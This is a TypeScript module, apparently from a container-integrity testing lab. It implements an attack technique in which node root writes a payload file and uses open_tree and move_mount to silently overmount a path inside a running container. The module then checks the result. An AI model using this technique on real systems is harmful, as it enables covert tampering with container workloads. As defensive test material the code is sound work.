/**
 * Attack: root on the node overmounts a path of a running container without
 * mount(2) and without the source ever existing in the container: it clones
 * a node file with open_tree(2), enters the container's mount namespace and
 * attaches the clone with move_mount(2) (native/move-mount.c; util-linux's
 * `mount -N` resolves the target in the node's namespace, so it cannot do
 * this).
 */
import { copyFile } from 'node:fs/promises';
import { join } from 'node:path';
import { compileStatic } from '../../node/native.ts';
import type { Technique } from '../technique.ts';
import { requirePath, requirePayload } from './common.ts';
import { attackerRuns, judgeOvermount, mountinfoOf, targetOf } from './overmount.ts';

const SOURCE = join(import.meta.dirname, 'native', 'move-mount.c');

export const overmountMoveMount: Technique = {
  name: 'overmount-move-mount',
  async run(ctx) {
    const { node, attack } = ctx;
    const path = requirePath(attack);
    const payload = Buffer.from(requirePayload(attack), 'utf8');
    const target = await targetOf(ctx);
    // The tool goes through the lab's shared directory (same path on host and node).
    const tool = join(node.shareDir, 'move-mount');
    await copyFile(await compileStatic(SOURCE, 'move-mount'), tool);
    const source = '/var/lib/integrity-lab/attacker/move-mount-payload';
    await attackerRuns(node, ['sh', '-c', `mkdir -p /var/lib/integrity-lab/attacker && cat > ${source}`], payload);
    const mountinfoBefore = await mountinfoOf(node, target.pid);
    const command = [tool, String(target.pid), source, path];
    const startedAt = Date.now();
    await attackerRuns(node, command);
    const doneAt = Date.now();
    return judgeOvermount(ctx, { target, path, payload, command, mountinfoBefore, startedAt, doneAt });
  },
};
